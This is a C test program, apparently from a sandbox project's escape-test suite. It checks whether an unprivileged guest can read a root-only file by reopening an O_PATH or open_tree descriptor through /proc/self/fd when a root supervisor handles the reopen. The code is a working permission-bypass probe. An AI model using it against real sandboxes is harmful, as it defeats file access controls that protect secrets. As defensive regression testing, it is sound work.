/* Attack (root sandbox): a guest process that dropped root (to uid 65534,
 * as `su`, `setpriv` or a test suite's unprivileged step do) reads a file
 * only root may read, by reopening an O_PATH fd to it (O_PATH needs no read
 * permission) through /proc/self/fd/N. The kernel checks that reopen against
 * the caller's credentials; ferry's supervisor does it itself
 * (pidfd_getfd + open("/proc/self/fd/M")) as the host's root.
 *
 * Stops it (should): the supervisor reopening with the guest's fsuid/fsgid
 * (as the gofer does with act_as), or asking the gofer to.
 * Natively: CONTAINED (EACCES): this is the protection ferry must not
 * weaken. With --no-drop it reads the file natively (ESCAPED), which shows
 * the file is there and the reopen path works.
 *
 * Usage: reopen_creds TOKEN ROOT_ONLY_FILE [--no-drop]
 */
#include <grp.h>
#include <linux/mount.h>
#include <sys/syscall.h>

#include "escape.h"

int main(int argc, char **argv)
{
	escape_init(argc, argv, "reopen-as-root", 1, "ROOT_ONLY_FILE [--no-drop]");
	const char *file = argv[2];
	bool drop = !(argc > 3 && strcmp(argv[3], "--no-drop") == 0);
	if (drop) {
		if (geteuid() != 0)
			setup_failed("run as root");
		if (setgroups(0, NULL) < 0 || setresgid(65534, 65534, 65534) < 0 ||
		    setresuid(65534, 65534, 65534) < 0)
			setup_failed("dropping to 65534: %s", strerror(errno));
		try_open("open as 65534", file);
	}
	int fd = open(file, O_PATH | O_CLOEXEC);
	const char *how = "open(O_PATH)";
	if (fd < 0) {
		escape_note("open(O_PATH): %s", strerror(errno));
		fd = (int)syscall(SYS_open_tree, AT_FDCWD, file, OPEN_TREE_CLOEXEC);
		how = "open_tree";
	}
	if (fd < 0) {
		escape_note("open_tree: %s", strerror(errno));
		contained();
	}
	char path[64], what[128];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	snprintf(what, sizeof(what), "%s + /proc/self/fd/N as uid %d", how, (int)geteuid());
	try_open(what, path);
	contained();
}
